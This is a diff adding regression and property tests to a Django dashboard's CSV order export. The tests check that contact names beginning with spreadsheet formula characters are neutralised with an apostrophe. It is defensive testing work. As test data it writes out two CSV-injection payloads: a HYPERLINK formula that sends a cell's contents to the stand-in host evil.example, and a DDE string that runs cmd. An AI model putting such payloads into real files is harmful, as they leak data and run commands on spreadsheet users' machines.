@@ -8,7 +8,10 @@ import io
 import pytest
 from django.http import StreamingHttpResponse
 from django.urls import reverse
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
+from portal.spreadsheet import FORMULA_STARTS
 from tests.dashboard.conftest import order_in, populate
 
 pytestmark = pytest.mark.django_db
@@ -47,3 +50,41 @@ def test_export_reads_in_chunks_with_constant_queries(
         chunks = list(response.streaming_content)
     # The header, then 30 rows in chunks of at most 7: nothing is built up in memory.
     assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 7, 7, 7, 7, 2]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+DDE = "-2+3+cmd|' /C calc'!A0"
+
+
+def test_contact_name_formula_is_neutralised_in_coordinator_csv(client, world) -> None:
+    """Issue 13, finding 3: a formula typed as a contact name reached the CSV unchanged."""
+    first = order_in(world.kelheim, world.fuehrerschein)
+    second = order_in(world.regen, world.fuehrerschein)
+    type(first).objects.filter(pk=first.pk).update(contact_name=HYPERLINK)
+    type(second).objects.filter(pk=second.pk).update(contact_name=DDE)
+    client.force_login(world.coordinator)
+    response = client.get(reverse("dashboard:order_export"))
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    names = {row[0]: row[rows[0].index("Ansprechperson")] for row in rows[1:]}
+    assert names[first.number] == "'" + HYPERLINK
+    assert names[second.number] == "'" + DDE
+
+
+@settings(
+    max_examples=40,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(name=st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=150))
+def test_no_contact_name_becomes_a_formula_in_the_csv(world, name: str) -> None:
+    from dashboard.export import csv_lines
+    from orders.models import Order
+
+    order = Order.objects.first() or order_in(world.kelheim, world.fuehrerschein)
+    Order.objects.filter(pk=order.pk).update(contact_name=name)
+    body = "".join(csv_lines(Order.objects.filter(pk=order.pk)))
+    header, row = list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))
+    cell = row[header.index("Ansprechperson")]
+    assert cell == ("'" + name if name.startswith(FORMULA_STARTS) else name)
+    assert row[header.index("Bestellnummer")] == order.number
